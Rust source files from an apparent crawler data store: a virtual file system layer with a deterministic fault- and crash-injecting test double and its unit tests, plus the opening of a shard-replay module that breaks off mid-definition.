        assert_eq!(url_token_scheme("https://x.example/deadbeef"), Some("a8".into()));
        assert_eq!(url_token_scheme("https://x.example/dead8eef"), Some("x8".into()));
    }
}
