//! The virtual file system under the store: every byte the store reads or
//! writes goes through a [`Vfs`], so durability bugs are testable.
//!
//! Two implementations:
//!
//! * [`RealVfs`] — plain `std::fs`, buffered appends, the production path.
//! * [`FaultVfs`] — a deterministic fault injector in the spirit of
//!   `cb-netsim::faults`: whether an operation faults is a pure function of
//!   `(seed, path, op, byte offset)`, so a failing run replays exactly.
//!   It injects short writes, fsync failures and disk-full errors, and —
//!   the crash-point machinery — it can *crash* at the Nth mutating
//!   operation: the in-flight write lands only partially (a torn frame),
//!   every later operation fails, and [`FaultVfs::apply_crash`] then
//!   rewrites the directory to what a real power cut would have left:
//!   unsynced file tails are dropped and renames whose parent directory
//!   was never fsynced are rolled back.
//!
//! The crash model is what makes the store's durability discipline
//! *checkable* rather than asserted: forget to fsync a segment before
//! advancing `CURRENT`, or to fsync the parent directory after an atomic
//! rename, and the crash-point sweep in `tests/store_chaos.rs` loses an
//! acknowledged record and fails.

use cb_sim::SeedFork;
use std::collections::HashMap;
use std::fmt;
use std::fs::{File, OpenOptions};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

/// A writable file handle dispensed by a [`Vfs`].
///
/// Writes are sequential appends from the store's point of view; `sync` is
/// the durability barrier (data written before a successful `sync` survives
/// a crash, data after it may not).
pub trait VfsFile: fmt::Debug + Send {
    /// Append `bytes` at the current end of the file.
    fn write_all(&mut self, bytes: &[u8]) -> io::Result<()>;
    /// Push buffered bytes to the OS (no durability guarantee).
    fn flush(&mut self) -> io::Result<()>;
    /// Flush and fsync — the durable-write barrier.
    fn sync(&mut self) -> io::Result<()>;
}

/// The file-system surface the store is written against. Object-safe so a
/// store can hold an `Arc<dyn Vfs>` chosen at open time.
pub trait Vfs: fmt::Debug + Send + Sync {
    /// Create `path` (and parents) as a directory if missing.
    fn create_dir_all(&self, path: &Path) -> io::Result<()>;
    /// Remove a directory tree.
    fn remove_dir_all(&self, path: &Path) -> io::Result<()>;
    /// Remove one file.
    fn remove_file(&self, path: &Path) -> io::Result<()>;
    /// File and directory names directly under `path` (unsorted).
    fn read_dir_names(&self, path: &Path) -> io::Result<Vec<String>>;
    /// Read a whole file.
    fn read(&self, path: &Path) -> io::Result<Vec<u8>>;
    /// Create-or-replace `path` with `bytes` (not atomic, not durable —
    /// callers rename + fsync for that).
    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()>;
    /// Exclusively create `path` for appending (fails if it exists).
    fn create_new(&self, path: &Path) -> io::Result<Box<dyn VfsFile>>;
    /// Open an existing `path` for appending.
    fn open_append(&self, path: &Path) -> io::Result<Box<dyn VfsFile>>;
    /// Atomically rename `from` to `to` (replacing `to`). Durable only
    /// after [`Vfs::sync_dir`] on the parent.
    fn rename(&self, from: &Path, to: &Path) -> io::Result<()>;
    /// Truncate `path` to `len` bytes and fsync it.
    fn truncate(&self, path: &Path, len: u64) -> io::Result<()>;
    /// Fsync the file at `path` (open + sync_data).
    fn fsync(&self, path: &Path) -> io::Result<()>;
    /// Fsync the directory at `path`, making renames and creations inside
    /// it durable.
    fn sync_dir(&self, path: &Path) -> io::Result<()>;
    /// Length of the file at `path`.
    fn len(&self, path: &Path) -> io::Result<u64>;
    /// Whether anything exists at `path`.
    fn exists(&self, path: &Path) -> bool;
    /// Whether `path` is a directory.
    fn is_dir(&self, path: &Path) -> bool;
}

/// The production [`Vfs`]: plain `std::fs` with buffered append handles.
#[derive(Debug, Default, Clone, Copy)]
pub struct RealVfs;

impl RealVfs {
    /// A shared handle to the singleton real file system.
    pub fn arc() -> Arc<dyn Vfs> {
        Arc::new(RealVfs)
    }
}

/// [`RealVfs`]'s file handle: a `BufWriter` over the raw descriptor, so
/// per-frame appends do not pay a syscall each.
#[derive(Debug)]
struct RealFile(BufWriter<File>);

impl VfsFile for RealFile {
    fn write_all(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.0.write_all(bytes)
    }
    fn flush(&mut self) -> io::Result<()> {
        self.0.flush()
    }
    fn sync(&mut self) -> io::Result<()> {
        self.0.flush()?;
        self.0.get_ref().sync_data()
    }
}

impl Vfs for RealVfs {
    fn create_dir_all(&self, path: &Path) -> io::Result<()> {
        std::fs::create_dir_all(path)
    }
    fn remove_dir_all(&self, path: &Path) -> io::Result<()> {
        std::fs::remove_dir_all(path)
    }
    fn remove_file(&self, path: &Path) -> io::Result<()> {
        std::fs::remove_file(path)
    }
    fn read_dir_names(&self, path: &Path) -> io::Result<Vec<String>> {
        let mut out = Vec::new();
        for entry in std::fs::read_dir(path)? {
            if let Some(name) = entry?.file_name().to_str() {
                out.push(name.to_string());
            }
        }
        Ok(out)
    }
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        std::fs::read(path)
    }
    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()> {
        std::fs::write(path, bytes)
    }
    fn create_new(&self, path: &Path) -> io::Result<Box<dyn VfsFile>> {
        let file = OpenOptions::new().write(true).create_new(true).open(path)?;
        Ok(Box::new(RealFile(BufWriter::new(file))))
    }
    fn open_append(&self, path: &Path) -> io::Result<Box<dyn VfsFile>> {
        let file = OpenOptions::new().append(true).open(path)?;
        Ok(Box::new(RealFile(BufWriter::new(file))))
    }
    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        std::fs::rename(from, to)
    }
    fn truncate(&self, path: &Path, len: u64) -> io::Result<()> {
        let file = OpenOptions::new().write(true).open(path)?;
        file.set_len(len)?;
        file.sync_data()
    }
    fn fsync(&self, path: &Path) -> io::Result<()> {
        File::open(path)?.sync_data()
    }
    fn sync_dir(&self, path: &Path) -> io::Result<()> {
        // Directory fsync is a unix-ism; opening a directory read-only and
        // syncing it is the portable-enough std spelling.
        match File::open(path) {
            Ok(d) => d.sync_data(),
            // Platforms that refuse to open directories get best-effort.
            Err(e) if e.kind() == io::ErrorKind::PermissionDenied => Ok(()),
            Err(e) => Err(e),
        }
    }
    fn len(&self, path: &Path) -> io::Result<u64> {
        Ok(std::fs::metadata(path)?.len())
    }
    fn exists(&self, path: &Path) -> bool {
        path.exists()
    }
    fn is_dir(&self, path: &Path) -> bool {
        path.is_dir()
    }
}

/// The I/O operations [`FaultVfs`] can fault, in the injection key.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IoOp {
    /// A data write (file append or whole-file write).
    Write,
    /// An fsync of a file.
    Fsync,
    /// An atomic rename.
    Rename,
    /// A truncate.
    Truncate,
    /// A directory fsync.
    SyncDir,
    /// A file or directory removal.
    Remove,
}

impl IoOp {
    fn label(self) -> &'static str {
        match self {
            IoOp::Write => "write",
            IoOp::Fsync => "fsync",
            IoOp::Rename => "rename",
            IoOp::Truncate => "truncate",
            IoOp::SyncDir => "sync-dir",
            IoOp::Remove => "remove",
        }
    }
}

/// The transient (non-crash) I/O fault taxonomy.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IoFaultKind {
    /// A write lands only a deterministic prefix of its bytes, then errors.
    ShortWrite,
    /// Fsync fails; the data stays volatile.
    FsyncFail,
    /// The device is full: nothing lands, `ENOSPC`-style error.
    DiskFull,
}

impl IoFaultKind {
    /// Every kind, in a stable order.
    pub const ALL: [IoFaultKind; 3] =
        [IoFaultKind::ShortWrite, IoFaultKind::FsyncFail, IoFaultKind::DiskFull];
}

/// A deterministic I/O fault plan, mirroring `cb-netsim::FaultPlan`.
#[derive(Debug, Clone)]
pub struct IoFaultPlan {
    /// Seed for every injection draw.
    pub seed: u64,
    /// Fraction of eligible operations that fault, in `[0, 1]`.
    pub rate: f64,
    /// Which transient kinds the plan draws from.
    pub kinds: Vec<IoFaultKind>,
    /// Crash at the Nth mutating operation (1-based). `None` never crashes.
    pub crash_at: Option<u64>,
}

impl IoFaultPlan {
    /// A plan that never faults (pure op counting / crash-state tracking).
    pub fn counting(seed: u64) -> IoFaultPlan {
        IoFaultPlan { seed, rate: 0.0, kinds: IoFaultKind::ALL.to_vec(), crash_at: None }
    }

    /// A plan that crashes at mutating op `n` (1-based) and never injects
    /// transient faults.
    pub fn crash_at(seed: u64, n: u64) -> IoFaultPlan {
        IoFaultPlan { seed, rate: 0.0, kinds: IoFaultKind::ALL.to_vec(), crash_at: Some(n) }
    }

    /// A plan injecting transient faults at `rate` and never crashing.
    pub fn transient(seed: u64, rate: f64) -> IoFaultPlan {
        assert!((0.0..=1.0).contains(&rate), "fault rate in [0, 1]");
        IoFaultPlan { seed, rate, kinds: IoFaultKind::ALL.to_vec(), crash_at: None }
    }
}

/// Per-file durability tracking: how long the file is, and how much of it
/// has been made durable by an fsync.
#[derive(Debug, Clone, Copy)]
struct FileState {
    len: u64,
    synced_len: u64,
}

/// A rename whose parent directory has not been fsynced yet: on crash it
/// rolls back (`to` restored to what it held, `from` restored with the
/// renamed bytes).
#[derive(Debug)]
struct PendingRename {
    parent: PathBuf,
    from: PathBuf,
    to: PathBuf,
    /// What `to` held before the rename clobbered it (None: nothing).
    replaced: Option<Vec<u8>>,
}

#[derive(Debug, Default)]
struct FaultState {
    ops: u64,
    crashed: bool,
    files: HashMap<PathBuf, FileState>,
    pending_renames: Vec<PendingRename>,
}

/// The deterministic fault-injecting [`Vfs`]. Wraps [`RealVfs`] and keeps a
/// shadow model of durability (synced lengths, dir-pending renames) so a
/// simulated crash can be *applied* to the real directory afterwards.
#[derive(Debug)]
pub struct FaultVfs {
    real: RealVfs,
    plan: IoFaultPlan,
    state: Mutex<FaultState>,
}

/// The error kind every operation returns once the simulated crash point
/// has been reached.
pub const CRASHED: io::ErrorKind = io::ErrorKind::Other;

fn crash_error() -> io::Error {
    io::Error::new(CRASHED, "simulated crash: file system is gone")
}

impl FaultVfs {
    /// A fault VFS over the real file system with `plan`.
    pub fn new(plan: IoFaultPlan) -> Arc<FaultVfs> {
        Arc::new(FaultVfs { real: RealVfs, plan, state: Mutex::new(FaultState::default()) })
    }

    /// Mutating operations observed so far (the crash-point space: a sweep
    /// probes a reference run with [`IoFaultPlan::counting`], reads this,
    /// then replays with `crash_at` in `1..=ops`).
    pub fn ops(&self) -> u64 {
        self.state.lock().expect("fault state").ops
    }

    /// Whether the simulated crash point has been hit.
    pub fn crashed(&self) -> bool {
        self.state.lock().expect("fault state").crashed
    }

    /// Rewrite the on-disk state to what a power cut at the crash point
    /// would have left: pending renames roll back (newest first), then
    /// every file loses a deterministic amount of its unsynced tail.
    /// Call after the crashed run has dropped its store; reopen the
    /// directory with a fresh VFS afterwards.
    pub fn apply_crash(&self) -> io::Result<()> {
        let mut st = self.state.lock().expect("fault state");
        // Reborrow through the guard once so the loop's `pending_renames`
        // drain and the `files` updates are disjoint field borrows.
        let st = &mut *st;
        let fork = SeedFork::new(self.plan.seed);
        // Renames first: a rolled-back rename re-exposes `from`, whose
        // unsynced tail is then truncated like any other file.
        for pending in st.pending_renames.drain(..).rev() {
            let bytes = std::fs::read(&pending.to)?;
            std::fs::write(&pending.from, &bytes)?;
            match &pending.replaced {
                Some(old) => std::fs::write(&pending.to, old)?,
                None => std::fs::remove_file(&pending.to)?,
            }
            if let Some(fs) = st.files.remove(&pending.to) {
                st.files.insert(pending.from.clone(), fs);
            }
        }
        for (path, fs) in st.files.iter_mut() {
            if !path.exists() {
                continue; // removed (or renamed away) before the crash
            }
            let len = std::fs::metadata(path)?.len().min(fs.len);
            let synced = fs.synced_len.min(len);
            if len > synced {
                let span = len - synced;
                let keep = synced + fork.seed(&format!("crash:{}:{len}", path.display())) % (span + 1);
                let file = OpenOptions::new().write(true).open(path)?;
                file.set_len(keep)?;
                file.sync_data()?;
                fs.len = keep;
                fs.synced_len = keep;
            }
        }
        Ok(())
    }

    /// Count one mutating op; decide crash and transient faults. Returns
    /// `Ok(None)` for "proceed normally", `Ok(Some(kind))` for a transient
    /// fault the caller must materialize, `Err` once crashed (including
    /// the op that *hits* the crash point, which the caller partially
    /// applies first via the returned flag).
    fn gate(&self, op: IoOp, path: &Path, offset: u64) -> Result<Gate, io::Error> {
        let mut st = self.state.lock().expect("fault state");
        if st.crashed {
            return Err(crash_error());
        }
        st.ops += 1;
        if self.plan.crash_at == Some(st.ops) {
            st.crashed = true;
            return Ok(Gate::Crash);
        }
        if self.plan.rate > 0.0 && !self.plan.kinds.is_empty() {
            let fork = SeedFork::new(self.plan.seed);
            let key = format!("{}:{}:{offset}", op.label(), path.display());
            let faulty = (fork.seed(&key) % 10_000) as f64 / 10_000.0 < self.plan.rate;
            if faulty {
                let kind = self.plan.kinds
                    [(fork.seed(&format!("{key}#kind")) as usize) % self.plan.kinds.len()];
                if applicable(kind, op) {
                    return Ok(Gate::Transient(kind));
                }
            }
        }
        Ok(Gate::Clean)
    }

    /// Deterministic partial length for a torn write of `len` bytes.
    fn torn_len(&self, path: &Path, offset: u64, len: usize) -> usize {
        let fork = SeedFork::new(self.plan.seed);
        (fork.seed(&format!("torn:{}:{offset}", path.display())) % (len as u64 + 1)) as usize
    }

    fn track_existing(&self, path: &Path) {
        let mut st = self.state.lock().expect("fault state");
        if !st.files.contains_key(path) {
            let len = std::fs::metadata(path).map(|m| m.len()).unwrap_or(0);
            // Pre-existing bytes are assumed durable.
            st.files.insert(path.to_path_buf(), FileState { len, synced_len: len });
        }
    }

    fn note_write(&self, path: &Path, wrote: u64) {
        let mut st = self.state.lock().expect("fault state");
        let fs = st
            .files
            .entry(path.to_path_buf())
            .or_insert(FileState { len: 0, synced_len: 0 });
        fs.len += wrote;
    }

    fn note_replace(&self, path: &Path, len: u64) {
        let mut st = self.state.lock().expect("fault state");
        st.files.insert(path.to_path_buf(), FileState { len, synced_len: 0 });
    }

    fn note_sync(&self, path: &Path) {
        let mut st = self.state.lock().expect("fault state");
        if let Some(fs) = st.files.get_mut(path) {
            fs.synced_len = fs.len;
        } else {
            let len = std::fs::metadata(path).map(|m| m.len()).unwrap_or(0);
            st.files.insert(path.to_path_buf(), FileState { len, synced_len: len });
        }
    }
}

/// What [`FaultVfs::gate`] decided for one op.
enum Gate {
    Clean,
    Transient(IoFaultKind),
    Crash,
}

/// Whether a transient fault kind can apply to an op.
fn applicable(kind: IoFaultKind, op: IoOp) -> bool {
    match kind {
        IoFaultKind::ShortWrite | IoFaultKind::DiskFull => op == IoOp::Write,
        IoFaultKind::FsyncFail => matches!(op, IoOp::Fsync | IoOp::SyncDir),
    }
}

fn transient_error(kind: IoFaultKind) -> io::Error {
    match kind {
        IoFaultKind::ShortWrite => {
            io::Error::new(io::ErrorKind::WriteZero, "injected short write")
        }
        IoFaultKind::FsyncFail => {
            io::Error::new(io::ErrorKind::Other, "injected fsync failure")
        }
        IoFaultKind::DiskFull => {
            io::Error::new(io::ErrorKind::StorageFull, "injected disk full")
        }
    }
}

/// [`FaultVfs`]'s unbuffered file handle: every write goes straight to the
/// fault gate so offsets (and crash points) are exact.
#[derive(Debug)]
struct FaultFile {
    vfs: Arc<FaultVfs>,
    path: PathBuf,
    file: File,
}

impl VfsFile for FaultFile {
    fn write_all(&mut self, bytes: &[u8]) -> io::Result<()> {
        let offset = {
            let st = self.vfs.state.lock().expect("fault state");
            st.files.get(&self.path).map(|f| f.len).unwrap_or(0)
        };
        match self.vfs.gate(IoOp::Write, &self.path, offset)? {
            Gate::Clean => {
                self.file.write_all(bytes)?;
                self.vfs.note_write(&self.path, bytes.len() as u64);
                Ok(())
            }
            Gate::Transient(IoFaultKind::ShortWrite) | Gate::Crash => {
                let keep = self.vfs.torn_len(&self.path, offset, bytes.len());
                self.file.write_all(&bytes[..keep])?;
                self.vfs.note_write(&self.path, keep as u64);
                if self.vfs.crashed() {
                    Err(crash_error())
                } else {
                    Err(transient_error(IoFaultKind::ShortWrite))
                }
            }
            Gate::Transient(kind) => Err(transient_error(kind)),
        }
    }

    fn flush(&mut self) -> io::Result<()> {
        if self.vfs.crashed() {
            return Err(crash_error());
        }
        Ok(()) // unbuffered: writes are already at the OS
    }

    fn sync(&mut self) -> io::Result<()> {
        match self.vfs.gate(IoOp::Fsync, &self.path, 0)? {
            Gate::Clean => {
                self.file.sync_data()?;
                self.vfs.note_sync(&self.path);
                Ok(())
            }
            Gate::Transient(kind) => Err(transient_error(kind)),
            Gate::Crash => Err(crash_error()),
        }
    }
}

/// `Vfs` for `Arc<FaultVfs>` so call sites can keep a typed handle (for
/// [`FaultVfs::ops`] / [`FaultVfs::apply_crash`]) and still hand the store
/// an `Arc<dyn Vfs>` clone.
impl Vfs for Arc<FaultVfs> {
    fn create_dir_all(&self, path: &Path) -> io::Result<()> {
        if self.crashed() {
            return Err(crash_error());
        }
        self.real.create_dir_all(path)
    }
    fn remove_dir_all(&self, path: &Path) -> io::Result<()> {
        match self.gate(IoOp::Remove, path, 0)? {
            Gate::Crash => Err(crash_error()),
            _ => {
                let mut st = self.state.lock().expect("fault state");
                st.files.retain(|p, _| !p.starts_with(path));
                st.pending_renames.retain(|r| !r.to.starts_with(path));
                drop(st);
                self.real.remove_dir_all(path)
            }
        }
    }
    fn remove_file(&self, path: &Path) -> io::Result<()> {
        match self.gate(IoOp::Remove, path, 0)? {
            Gate::Crash => Err(crash_error()),
            _ => {
                let mut st = self.state.lock().expect("fault state");
                st.files.remove(path);
                st.pending_renames.retain(|r| r.to != path);
                drop(st);
                self.real.remove_file(path)
            }
        }
    }
    fn read_dir_names(&self, path: &Path) -> io::Result<Vec<String>> {
        if self.crashed() {
            return Err(crash_error());
        }
        self.real.read_dir_names(path)
    }
    fn read(&self, path: &Path) -> io::Result<Vec<u8>> {
        if self.crashed() {
            return Err(crash_error());
        }
        self.track_existing(path);
        self.real.read(path)
    }
    fn write(&self, path: &Path, bytes: &[u8]) -> io::Result<()> {
        match self.gate(IoOp::Write, path, 0)? {
            Gate::Clean => {
                self.real.write(path, bytes)?;
                self.note_replace(path, bytes.len() as u64);
                Ok(())
            }
            Gate::Transient(IoFaultKind::ShortWrite) | Gate::Crash => {
                let keep = self.torn_len(path, 0, bytes.len());
                self.real.write(path, &bytes[..keep])?;
                self.note_replace(path, keep as u64);
                if self.crashed() {
                    Err(crash_error())
                } else {
                    Err(transient_error(IoFaultKind::ShortWrite))
                }
            }
            Gate::Transient(kind) => Err(transient_error(kind)),
        }
    }
    fn create_new(&self, path: &Path) -> io::Result<Box<dyn VfsFile>> {
        if self.crashed() {
            return Err(crash_error());
        }
        let file = OpenOptions::new().write(true).create_new(true).open(path)?;
        self.note_replace(path, 0);
        Ok(Box::new(FaultFile { vfs: Arc::clone(self), path: path.to_path_buf(), file }))
    }
    fn open_append(&self, path: &Path) -> io::Result<Box<dyn VfsFile>> {
        if self.crashed() {
            return Err(crash_error());
        }
        self.track_existing(path);
        let file = OpenOptions::new().append(true).open(path)?;
        Ok(Box::new(FaultFile { vfs: Arc::clone(self), path: path.to_path_buf(), file }))
    }
    fn rename(&self, from: &Path, to: &Path) -> io::Result<()> {
        match self.gate(IoOp::Rename, from, 0)? {
            Gate::Crash => Err(crash_error()),
            _ => {
                let replaced = std::fs::read(to).ok();
                self.real.rename(from, to)?;
                let mut st = self.state.lock().expect("fault state");
                let fs = st
                    .files
                    .remove(from)
                    .unwrap_or(FileState { len: 0, synced_len: 0 });
                st.files.insert(to.to_path_buf(), fs);
                st.pending_renames.push(PendingRename {
                    parent: to.parent().unwrap_or(Path::new("")).to_path_buf(),
                    from: from.to_path_buf(),
                    to: to.to_path_buf(),
                    replaced,
                });
                Ok(())
            }
        }
    }
    fn truncate(&self, path: &Path, len: u64) -> io::Result<()> {
        match self.gate(IoOp::Truncate, path, len)? {
            Gate::Crash => Err(crash_error()),
            _ => {
                self.real.truncate(path, len)?;
                let mut st = self.state.lock().expect("fault state");
                let fs = st
                    .files
                    .entry(path.to_path_buf())
                    .or_insert(FileState { len, synced_len: len });
                fs.len = len;
                fs.synced_len = fs.synced_len.min(len);
                // truncate() fsyncs, so the kept prefix is durable.
                fs.synced_len = len.min(fs.len);
                Ok(())
            }
        }
    }
    fn fsync(&self, path: &Path) -> io::Result<()> {
        match self.gate(IoOp::Fsync, path, 0)? {
            Gate::Clean => {
                self.real.fsync(path)?;
                self.note_sync(path);
                Ok(())
            }
            Gate::Transient(kind) => Err(transient_error(kind)),
            Gate::Crash => Err(crash_error()),
        }
    }
    fn sync_dir(&self, path: &Path) -> io::Result<()> {
        match self.gate(IoOp::SyncDir, path, 0)? {
            Gate::Clean => {
                self.real.sync_dir(path)?;
                let mut st = self.state.lock().expect("fault state");
                st.pending_renames.retain(|r| r.parent != path);
                Ok(())
            }
            Gate::Transient(kind) => Err(transient_error(kind)),
            Gate::Crash => Err(crash_error()),
        }
    }
    fn len(&self, path: &Path) -> io::Result<u64> {
        if self.crashed() {
            return Err(crash_error());
        }
        self.track_existing(path);
        self.real.len(path)
    }
    fn exists(&self, path: &Path) -> bool {
        self.real.exists(path)
    }
    fn is_dir(&self, path: &Path) -> bool {
        self.real.is_dir(path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scratch(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("cb-vfs-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn counting_plan_is_transparent_and_counts_ops() {
        let dir = scratch("count");
        let vfs = FaultVfs::new(IoFaultPlan::counting(1));
        let p = dir.join("a");
        let mut f = vfs.create_new(&p).unwrap();
        f.write_all(b"hello").unwrap();
        f.sync().unwrap();
        drop(f);
        vfs.rename(&p, &dir.join("b")).unwrap();
        vfs.sync_dir(&dir).unwrap();
        assert_eq!(vfs.ops(), 4, "write, fsync, rename, sync-dir");
        assert_eq!(std::fs::read(dir.join("b")).unwrap(), b"hello");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn crash_point_tears_the_inflight_write_and_halts() {
        let dir = scratch("crash");
        let vfs = FaultVfs::new(IoFaultPlan::crash_at(7, 2));
        let p = dir.join("log");
        let mut f = vfs.create_new(&p).unwrap();
        f.write_all(b"first").unwrap(); // op 1
        let err = f.write_all(b"second-frame").unwrap_err(); // op 2: crash
        assert_eq!(err.kind(), CRASHED);
        assert!(vfs.crashed());
        assert_eq!(f.sync().unwrap_err().kind(), CRASHED, "everything fails after the crash");
        drop(f);
        vfs.apply_crash().unwrap();
        let bytes = std::fs::read(&p).unwrap();
        // Nothing was synced, so the surviving prefix is deterministic but
        // may be anything up to the torn write.
        assert!(bytes.len() <= "firstsecond-frame".len());
        assert!(b"firstsecond-frame".starts_with(&bytes[..]));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn synced_data_survives_apply_crash() {
        let dir = scratch("synced");
        let vfs = FaultVfs::new(IoFaultPlan::crash_at(3, 3));
        let p = dir.join("log");
        let mut f = vfs.create_new(&p).unwrap();
        f.write_all(b"durable").unwrap(); // op 1
        f.sync().unwrap(); // op 2
        assert_eq!(f.write_all(b"volatile").unwrap_err().kind(), CRASHED); // op 3
        drop(f);
        vfs.apply_crash().unwrap();
        let bytes = std::fs::read(&p).unwrap();
        assert!(bytes.starts_with(b"durable"), "synced prefix kept: {bytes:?}");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn unsynced_rename_rolls_back_on_crash() {
        let dir = scratch("rename");
        let vfs = FaultVfs::new(IoFaultPlan::crash_at(5, 4));
        std::fs::write(dir.join("CURRENT"), b"old").unwrap();
        let tmp = dir.join("CURRENT.tmp");
        vfs.write(&tmp, b"new").unwrap(); // op 1
        vfs.fsync(&tmp).unwrap(); // op 2
        vfs.rename(&tmp, &dir.join("CURRENT")).unwrap(); // op 3 (pending)
        // op 4 would be sync_dir; crash instead.
        assert_eq!(vfs.fsync(&dir.join("CURRENT")).unwrap_err().kind(), CRASHED);
        vfs.apply_crash().unwrap();
        assert_eq!(std::fs::read(dir.join("CURRENT")).unwrap(), b"old", "rename rolled back");
        assert_eq!(std::fs::read(&tmp).unwrap(), b"new", "tmp restored (its bytes were synced)");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn dir_synced_rename_survives_crash() {
        let dir = scratch("rename-durable");
        let vfs = FaultVfs::new(IoFaultPlan::crash_at(5, 5));
        std::fs::write(dir.join("CURRENT"), b"old").unwrap();
        let tmp = dir.join("CURRENT.tmp");
        vfs.write(&tmp, b"new").unwrap(); // 1
        vfs.fsync(&tmp).unwrap(); // 2
        vfs.rename(&tmp, &dir.join("CURRENT")).unwrap(); // 3
        vfs.sync_dir(&dir).unwrap(); // 4: rename now durable
        assert_eq!(vfs.fsync(&dir.join("CURRENT")).unwrap_err().kind(), CRASHED); // 5
        vfs.apply_crash().unwrap();
        assert_eq!(std::fs::read(dir.join("CURRENT")).unwrap(), b"new");
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn transient_faults_are_deterministic_and_recoverable() {
        let dir = scratch("transient");
        let outcomes: Vec<Vec<bool>> = (0..2)
            .map(|_| {
                let vfs = FaultVfs::new(IoFaultPlan::transient(42, 0.5));
                (0..40)
                    .map(|i| vfs.write(&dir.join(format!("f{i}")), b"payload").is_ok())
                    .collect()
            })
            .collect();
        assert_eq!(outcomes[0], outcomes[1], "same plan, same faults");
        assert!(outcomes[0].iter().any(|ok| *ok), "some ops succeed at rate 0.5");
        assert!(outcomes[0].iter().any(|ok| !*ok), "some ops fault at rate 0.5");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
