//! One shard of the partitioned store: an independent segment log with its
//! own `CURRENT` generation pointer, index, health state and repair path.
//!
//! Records are routed to shards by content-hash prefix
//! ([`shard_of`]), so shards recover, compact and repair independently —
//! corruption inside one shard quarantines that shard only, and the store
//! keeps serving queries from the healthy ones.
//!
//! # Replay rules
//!
//! A segment is a concatenation of frames; a record with captured
//! artifacts is preceded by a [`KIND_BLOB_REF`] frame naming its blob
//! addresses, and the pair never spans a segment boundary. Replay walks
//! every frame and classifies the first bad byte it meets:
//!
//! * **Torn framing in the last segment** (partial header, truncated
//!   payload, CRC mismatch at the tail) is a crash artifact: the tail is
//!   truncated back to the end of the last complete blob-ref/record pair
//!   and the shard stays healthy. A complete blob-ref frame with no
//!   following record is part of the torn tail (the crash hit between the
//!   pair) and is truncated too — leaving at worst an orphan blob for
//!   [`Store::gc_orphan_blobs`](crate::Store::gc_orphan_blobs).
//! * **Anything else** — bad framing in an interior segment, a CRC-valid
//!   frame whose payload does not decode, a malformed blob-ref — is
//!   corruption: the shard is quarantined. Appends to it fail, its records
//!   drop out of queries and `known_hashes`, and [`Shard::repair`]
//!   re-adjudicates it from its last valid frames.
//!
//! Replay adjudicates payloads with the borrowed meta scan
//! ([`metascan`](crate::metascan)) rather than a full record
//! deserialization: the index only needs each record's
//! [`RecordMeta`](crate::index::RecordMeta), so opening a store — which is
//! all `crawl-log store stats` does for its counts — never materializes
//! the records themselves. Debug builds cross-check every scanned payload
//! against the full decode, so the two adjudications cannot drift
//! silently.

use crate::blob::BlobStore;
use crate::frame::{
    decode_blob_refs, encode_blob_refs, encode_frame, next_frame, FrameStep, KIND_BLOB_REF,
    KIND_RECORD,
};
use crate::index::{RecordMeta, StoreIndex};
use crate::metascan;
use crate::segment::{list_segments, segment_file_name, SegmentWriter};
use crate::store::{StoreMetrics, StoreOptions};
use crate::vfs::Vfs;
use cb_telemetry::{with_active, Tracer};
use crawlerbox::ScanRecord;
use std::collections::{BTreeMap, HashSet};
use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// Route `hash` to one of `shards` by its top byte — a monotone prefix
/// partition, so shard membership is stable under re-sharding to a
/// multiple.
pub fn shard_of(hash: u128, shards: usize) -> usize {
    debug_assert!(shards >= 1);
    ((hash >> 120) as usize * shards) / 256
}

/// Directory name of shard `id`.
pub fn shard_dir_name(id: usize) -> String {
    format!("shard-{id:02}")
}

/// Name of generation `n`'s segment directory.
pub(crate) fn generation_dir_name(n: u32) -> String {
    format!("segments-{n:05}")
}

/// Parse a generation directory name.
pub(crate) fn parse_generation_name(name: &str) -> Option<u32> {
    let stem = name.strip_prefix("segments-")?;
    if stem.len() != 5 || !stem.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    stem.parse().ok()
}

fn corrupt(path: &Path, what: impl std::fmt::Display) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, format!("{}: {what}", path.display()))
}

/// What a torn tail looked like when recovery truncated it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TornTail {
    /// The segment file that was truncated.
    pub segment: PathBuf,
    /// Valid bytes kept.
    pub kept_bytes: u64,
    /// Trailing bytes dropped.
    pub dropped_bytes: u64,
    /// Why the tail failed to parse.
    pub reason: String,
}

/// A shard's health: serving, or fenced off pending repair.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ShardHealth {
    /// Replay was clean (or recovered a torn tail); the shard serves
    /// appends and queries.
    Healthy,
    /// Replay hit interior corruption; the shard serves nothing until
    /// [`Shard::repair`].
    Quarantined {
        /// The file the corruption was found in.
        segment: PathBuf,
        /// Byte offset of the first bad frame.
        at: u64,
        /// What was wrong with it.
        reason: String,
    },
}

impl ShardHealth {
    /// Whether the shard is serving.
    pub fn is_healthy(&self) -> bool {
        matches!(self, ShardHealth::Healthy)
    }
}

/// What [`Shard::repair`] salvaged.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RepairReport {
    /// The repaired shard.
    pub shard: usize,
    /// Records salvaged into the new generation.
    pub salvaged: usize,
    /// Whether the shard was quarantined before the repair.
    pub was_quarantined: bool,
}

/// One frame-walk step outcome classified by the replay rules.
struct SegmentReplay {
    /// Scanned record metas (segment-local seq) with their blob refs and
